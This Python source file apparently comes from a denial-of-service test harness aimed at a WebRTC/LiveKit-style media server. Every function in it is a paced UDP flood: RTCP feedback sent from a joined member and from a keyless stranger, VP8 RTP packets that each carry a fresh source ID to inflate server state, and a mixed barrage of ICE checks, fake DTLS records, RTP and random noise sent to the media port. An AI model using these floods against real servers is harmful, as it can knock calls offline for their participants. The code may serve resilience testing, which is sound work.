"""Attacks by datagrams: what one of them makes the host compute or keep."""
from __future__ import annotations

import itertools
import secrets
from typing import Any, Iterator

from addresses import ANOTHER, OTHER
from pacing import Pace
from room_member import Member, udp
from wire import rtp_wire
from wire.livekit_wire import AUDIO
from wire.stun import check
from wire.web_wire import VP8

IN_A_DATAGRAM, FEEDBACK = (50, 30), 40  # in turn, as a host may refuse datagrams of too many; and bytes of one


def _spread(bits_a_second: float, size: float) -> float:
    return bits_a_second / 8 / size


def _feedback(ssrc: int) -> Iterator[bytes]:
    numbers = itertools.count()
    for count in itertools.cycle(IN_A_DATAGRAM):
        yield b"".join(rtp_wire.endless_feedback(ssrc, next(numbers)) for _ in range(count))


_FEEDBACK_SIZE = FEEDBACK * sum(IN_A_DATAGRAM) / len(IN_A_DATAGRAM)


def feedback_of_a_member(target: dict[str, Any], seconds: float) -> dict[str, Any]:
    """4.7 Mbit/s of it, of one who hears alice."""
    member, sent, heard = Member(target, "reporter", hears=AUDIO), 0, 0
    member.hear(member.await_track("alice"))
    for _, datagram in zip(Pace(_spread(4.7e6, _FEEDBACK_SIZE), seconds), _feedback(member.ssrc)):
        sent += member.send(datagram)
        member.listen()
        heard += len(member.take_heard())
    end = ", put out" if member.line.is_over else ""
    member.close()
    return {"did": f"{sent * 8 / seconds / 1e6:.1f} Mbit/s of feedback, {heard / seconds:.0f} packets a second heard{end}",
            "effort": sent if heard else 0}


def feedback_of_a_stranger(target: dict[str, Any], seconds: float) -> dict[str, Any]:
    """1.6 Mbit/s of it, without any key."""
    socket, sent = udp("127.0.0.1"), 0
    for _, datagram in zip(Pace(_spread(1.6e6, _FEEDBACK_SIZE), seconds), _feedback(0xBAD)):
        sent += socket.sendto(datagram, (target["host"], target["port"]))
    socket.close()
    return {"did": f"{sent * 8 / seconds / 1e6:.1f} Mbit/s of feedback", "effort": sent}


def sources(target: dict[str, Any], seconds: float) -> dict[str, Any]:
    """1.8 Mbit/s of packets of VP8, each of a source of its own."""
    socket, size, sent = udp("127.0.0.1"), 60, 0
    payload = b"\x10" + bytes(size - 13)  # the first packet of a frame
    for number, _ in enumerate(Pace(_spread(1.8e6, size), seconds)):
        sent += socket.sendto(rtp_wire.rtp(VP8, number, 0, 0x1000_0000 + number, payload), (target["host"], target["port"]))
    socket.close()
    return {"did": f"{sent * 8 / seconds / 1e6:.1f} Mbit/s, {sent // size // max(1, round(seconds)):,} sources a second", "effort": sent}


def media_port(target: dict[str, Any], seconds: float) -> dict[str, Any]:
    """5,000 datagrams a second of 200 and 1,200 bytes, from 64 ports of two addresses, at the UDP port of all members: checks of ICE for names that
    nobody has, records of DTLS, packets of RTP, and what is none of these."""
    sockets, sent = [udp(address) for address in (OTHER, ANOTHER) for _ in range(32)], 0
    checks = [check("stranger", secrets.token_hex(4), secrets.token_hex(12)) for _ in range(64)]
    for number, _ in enumerate(Pace(5000, seconds)):
        noise = secrets.token_bytes(200 if number % 8 else 1200)
        datagram = (checks[number // 4 % len(checks)], b"\x16\xfe\xfd" + noise, rtp_wire.rtp(VP8, number, number, number, noise), noise)[number % 4]
        try:
            sent += sockets[number % len(sockets)].sendto(datagram, (target["host"], target["media_port"]))
        except OSError:
            continue  # no room in its buffer
    for one in sockets:
        one.close()
    return {"did": f"{sent * 8 / seconds / 1e6:.1f} Mbit/s of datagrams", "effort": sent}
